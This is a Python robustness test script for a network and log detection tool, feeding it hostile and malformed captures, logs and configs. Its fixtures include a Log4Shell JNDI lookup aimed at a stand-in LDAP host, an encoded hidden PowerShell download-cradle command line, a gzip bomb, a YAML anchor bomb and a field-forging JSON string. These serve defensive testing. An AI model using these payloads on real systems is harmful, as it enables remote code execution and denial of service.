#!/usr/bin/env python3
"""bad_input.py MAMORI SOURCE_DIR - hostile and broken input: a clear message, status 0 or 2, bounded memory, and nothing
lost of what came before the damage. Prints one line a case in the form the test runner counts."""
import gzip
import json
import os
import random
import resource
import struct
import subprocess
import sys
import tempfile
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from cases import case, failed  # noqa: E402

MAMORI = sys.argv[1]
IS_SANITIZED = b"__asan_init" in open(MAMORI, "rb").read()
MEMORY_MAX_KIB = (4 << 20) if IS_SANITIZED else (700 << 10)


def run(args, stdin=b"", limit_s=120):
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    p = subprocess.run([MAMORI, *args], input=stdin, capture_output=True, timeout=limit_s)
    return p.returncode, p.stdout, p.stderr.decode("utf-8", "replace"), max(before, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)


def packet(payload, sport=40000, seq=1000, src="198.51.100.6", dst="192.168.1.5", dport=80):
    ip = lambda a: bytes(int(x) for x in a.split("."))
    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq, 1, 0x50, 0x18, 8192, 0, 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, ip(src), ip(dst))
    return b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + head + tcp


def pcap(packets, t0=1700000000):
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
    for i, p in enumerate(packets):
        out += struct.pack("<IIII", t0 + i, 0, len(p), len(p)) + p
    return out


EXPLOIT = packet(b"GET /api HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://198.51.100.6:1389/x}\r\nAccept: */*\r\n\r\n")
RECORD = json.dumps({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "PC1.office.example",
                     "UtcTime": "2023-11-14 22:13:25.000", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "CommandLine": "powershell.exe -nop -w hidden -enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                     "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "ProcessId": "4242",
                     "ProcessGuid": "{11111111-2222-3333-4444-555555555555}", "User": "OFFICE\\taro",
                     "Hashes": "SHA256=" + "AB" * 32, "SourceName": "Microsoft-Windows-Sysmon"}).encode()


def main():
    with tempfile.TemporaryDirectory() as d:
        def put(name, data):
            path = os.path.join(d, name)
            with open(path, "wb") as f:
                f.write(data)
            return path

        site = os.path.join(d, "site")
        os.mkdir(site)
        base = ["replay", "--config", site, "--home-net", "192.168.0.0/16"]

        # the good ones first, so that "nothing lost" can be judged
        good = put("good.pcap", pcap([EXPLOIT]))
        rc, out, err, _ = run([*base, "--pcap", good])
        case("good_capture_gives_an_incident", rc == 0 and out.count(b"\n") == 1, f"status {rc}\n{err}")
        log = put("good.json", RECORD + b"\n")
        rc, out, err, _ = run([*base, "--log", log])
        case("good_log_gives_an_incident", rc == 0 and out.count(b"\n") >= 1, f"status {rc}\n{err}")
        first = out

        def refused(name, args, word=None):
            rc, out, err, kib = run(args)
            case(name, rc == 2 and err.strip() and (word is None or word in err) and kib < MEMORY_MAX_KIB, f"status {rc}, {kib} KiB\n{err}")

        def used(name, args, lines, want_warning=True):
            rc, out, err, kib = run(args)
            case(name, rc == 0 and out.count(b"\n") >= lines and (err.strip() or not want_warning) and kib < MEMORY_MAX_KIB,
                 f"status {rc}, {out.count(10)} lines, {kib} KiB\n{err}")

        rc, out, err, _ = run([*base, "--pcap", os.path.join(d, "nothing.pcap")])
        case("missing_file", rc in (2, 3) and "nothing.pcap" in err, f"status {rc}\n{err}")
        refused("no_input", base)
        refused("unknown_option", [*base, "--pcpa", good])
        refused("bad_home_net", ["replay", "--config", site, "--home-net", "10.0.0.0/99", "--pcap", good], "10.0.0.0/99")
        random.seed(7)
        noise = random.randbytes(200000)
        refused("random_bytes_as_capture", [*base, "--pcap", put("random.pcap", noise)])
        refused("random_bytes_as_log", [*base, "--log", put("random.log", noise)])
        rc, out, err, _ = run([*base, "--log", put("empty.log", b"")])
        case("empty_log", rc in (0, 2) and not out, f"status {rc}\n{err}")
        rc, out, err, _ = run([*base, "--pcap", put("empty.pcap", b"")])
        case("empty_capture", rc in (0, 2) and not out and (rc == 0 or err.strip()), f"status {rc}\n{err}")
        whole = pcap([EXPLOIT, packet(b"x" * 400, sport=40001)])
        used("truncated_capture_is_used_up_to_the_cut", [*base, "--pcap", put("cut.pcap", whole[:-100])], 1)
        huge = pcap([EXPLOIT]) + struct.pack("<IIII", 1700000009, 0, 0xFFFFFFFF, 0xFFFFFFFF) + b"tail"
        used("length_field_of_4_gib", [*base, "--pcap", put("huge.pcap", huge)], 1)
        used("truncated_gzip_log", [*base, "--log", put("cut.json.gz", gzip.compress((RECORD + b"\n") * 2000 + noise.hex().encode())[:-20])], 1)
        bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = bomb.compress(RECORD + b"\n")
        for _ in range(1024 if not IS_SANITIZED else 256):
            data += bomb.compress(b"\0" * (1 << 20))
        data += bomb.flush()
        rc, out, err, kib = run([*base, "--log", put("bomb.json.gz", data)], limit_s=300)
        case("gzip_bomb", rc in (0, 2) and kib < MEMORY_MAX_KIB and err.strip(), f"status {rc}, {kib} KiB\n{err}")
        deep = b'{"a":' * 100000 + b"1" + b"}" * 100000
        used("deep_json_line_is_left_out", [*base, "--log", put("deep.json", RECORD + b"\n" + deep + b"\n" + RECORD.replace(b"4242", b"4243") + b"\n")], 1, False)
        used("invalid_utf8_and_nul", [*base, "--log", put("utf8.json", RECORD + b"\n\xff\xfe\x00\x80{\x00}\n" + RECORD.replace(b"taro", b"t\xc3\x28ro") + b"\n")], 1, False)
        used("line_of_10_mb", [*base, "--log", put("long.json", RECORD + b"\n" + b"A" * 10_000_000 + b"\n")], 1, False)
        used("mixed_formats", [*base, "--log", put("mixed.log", RECORD + b"\nNov 14 22:13:30 pc sshd[1]: Failed password for root from 203.0.113.9 port 5 ssh2\n<x>\n")], 1, False)
        forged = RECORD.replace(b"-nop", b'-nop\\", \\"Computer\\": \\"OTHER\\", \\"x\\": \\"')
        rc, out, err, _ = run([*base, "--log", put("forged.json", forged + b"\n")])
        hosts = [h.get("name", "") for l in out.splitlines() for h in json.loads(l)["unmapped"]["mamori"]["hosts"]]
        case("forged_fields_blame_no_other_host", rc == 0 and not any("OTHER" in h for h in hosts), f"{hosts}\n{err}")
        rc, out, err, _ = run([*base, "--log", "-"], stdin=RECORD + b"\n")
        case("standard_input", rc == 0 and out.count(b"\n") == first.count(b"\n") > 0, f"status {rc}\n{err}")

        def config(name, text, want):
            folder = os.path.join(d, "c-" + name)
            os.mkdir(folder)
            with open(os.path.join(folder, "10.yaml"), "wb") as f:
                f.write(text)
            rc, out, err, kib = run(["config", "check", "--config", folder])
            case("config_" + name, rc == 2 and want in err and kib < MEMORY_MAX_KIB, f"status {rc}\n{err}")

        config("unknown_key", b"defence:\n  per_minut: 3\n", "10.yaml:2:3: unknown key 'defence.per_minut'; did you mean 'per_minute'?")
        config("yaml_bomb", b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(b"%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n" % (c, c, *[c - 1] * 8) for c in range(98, 116)), "anchors")
        config("random", noise[:5000], "10.yaml:")
        config("nul", b"site:\n  name: \"a\\0b\"\n", "10.yaml:2")
        config("not_utf8", b"site:\n  name: \xff\xfe\n", "10.yaml:")
        config("deep", b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n", "10.yaml:")
        rc, out, err, _ = run([*base[:2], os.path.join(d, "no-such-folder"), "--pcap", good])
        case("missing_config_folder", rc in (2, 3) and "no-such-folder" in err, f"status {rc}\n{err}")
        with open(os.path.join(d, "assets.yaml"), "w") as f:
            f.write("hosts: [{name: PC1, ip: [not-an-address]}]\n")
        refused("bad_assets", [*base, "--assets", os.path.join(d, "assets.yaml"), "--pcap", good], "not-an-address")
    for name in failed:
        print(f"[  FAILED  ] {name}")
    return 1 if failed else 0


sys.exit(main())
